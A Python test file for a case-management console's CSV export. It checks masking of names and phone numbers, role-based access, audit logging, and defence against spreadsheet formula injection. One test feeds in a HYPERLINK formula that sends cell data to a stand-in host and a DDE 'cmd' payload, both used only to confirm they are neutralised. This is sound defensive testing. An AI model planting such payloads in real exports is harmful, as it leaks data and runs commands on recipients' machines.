"""The list of cases as a file: what the page shows to this person, and nothing that a spreadsheet computes."""

from __future__ import annotations

import csv
import io
from collections import Counter
from datetime import timedelta
from typing import Any

import pytest
from sqlalchemy import select

from ingest import register
from ingest.console import search
from ingest.console.export import as_text, written
from ingest.register import NewCase
from store.schema import history
from store.sealing import Sealer
from tests.console.conftest import Browser, House, log_in
from tests.console.town import NOW, SECRET_WORDS, fill, make_case, person


async def saved(browser: Browser, address: str = "/cases.csv") -> list[list[str]]:
    answer = await browser.get(address)
    assert answer.status == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith("attachment")
    return [*csv.reader(io.StringIO((await answer.read()).decode("utf-8-sig"), newline=""))]


async def test_a_clerk_saves_what_the_list_shows_masked_and_without_restricted_cases(
    house: House, browser: Browser
) -> None:
    await log_in(browser, "clerk")
    head, *rows = await saved(browser)
    by_number = {row[0]: row for row in rows}

    assert head[:3] == ["编号", "渠道", "事由"]
    assert by_number["2026-000101"][2].startswith("课后服务收费未公示")
    assert by_number["2026-000101"][4] == "王**"
    assert "13800001234" not in str(rows)
    assert SECRET_WORDS not in str(rows)
    assert by_number["2026-000105"][2:7] == [""] * 5


async def test_an_operator_saves_numbers_only_and_a_stranger_nothing(house: House, browser: Browser) -> None:
    stranger = await browser.get("/cases.csv", allow_redirects=False)
    await log_in(browser, "operator")
    _, *rows = await saved(browser)

    assert stranger.status == 303
    assert {cell for row in rows for cell in row[2:7]} == {""}


async def test_the_lists_filter_holds_and_all_its_pages_come(house: House, browser: Browser) -> None:
    fill(house.store, 120)
    await log_in(browser, "clerk")
    _, *all_of_it = await saved(browser)
    _, *found = await saved(browser, "/cases.csv?q=王秀兰&before=1-x")

    assert len(all_of_it) == len({row[0] for row in all_of_it}) > 120
    assert [row[0] for row in found] == ["2026-000101"]


async def test_titles_are_opened_once_however_many_pages_are_saved(
    house: House, browser: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    fill(house.store, 120)
    opened: Counter[str] = Counter()
    real = search.open_title

    def count(sealer: Sealer, row: Any) -> str:
        opened[row.case_id] += 1
        return real(sealer, row)

    monkeypatch.setattr(search, "open_title", count)
    await log_in(browser, "clerk")
    _, *found = await saved(browser, "/cases.csv?q=咨询入学")

    assert len(found) > 100
    assert set(opened.values()) == {1}


async def test_saving_is_a_view_that_is_written_down_without_a_word_of_it(house: House, browser: Browser) -> None:
    await log_in(browser, "clerk")
    _, *rows = await saved(browser, "/cases.csv?q=王秀兰")
    last = select(history).where(history.c.kind == "viewed").order_by(history.c.id.desc()).limit(1)
    row = house.store.read_now(lambda conn: conn.execute(last).one())

    assert (row.actor, row.case_id) == ("clerk", None)
    assert row.detail["exported"] == len(rows)
    assert "王秀兰" not in str(row.detail)


async def test_what_a_citizen_wrote_is_no_formula(house: House, browser: Browser) -> None:
    case = make_case(
        300,
        NOW - timedelta(hours=1),
        '=HYPERLINK("http://a.example/?"&A1,"看")',
        petitioners=(person("+cmd|'/c'!A0", ""),),
    )
    house.store.submit(
        lambda conn: register.add(conn, house.store.sealer, [NewCase(case, case.model_dump_json(), "x:300")], NOW)
    ).result()
    await log_in(browser, "clerk")
    _, *rows = await saved(browser)
    (row,) = [row for row in rows if row[0] == case.case_no]

    assert row[2].startswith("'=HYPERLINK(")
    assert row[4].startswith("'+")


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\n@x", "＝1", "\0=1", "\u2003=1"]
)
def test_no_cell_begins_a_formula(cell: str) -> None:
    assert as_text(cell).startswith("'")
    ((read,),) = csv.reader(io.StringIO(written([[cell]]).decode("utf-8-sig")))
    assert read == as_text(cell)


def test_plain_words_stay_as_they_are() -> None:
    assert [as_text(cell) for cell in ("2026-000101", "张**", "", "a=b")] == ["2026-000101", "张**", "", "a=b"]
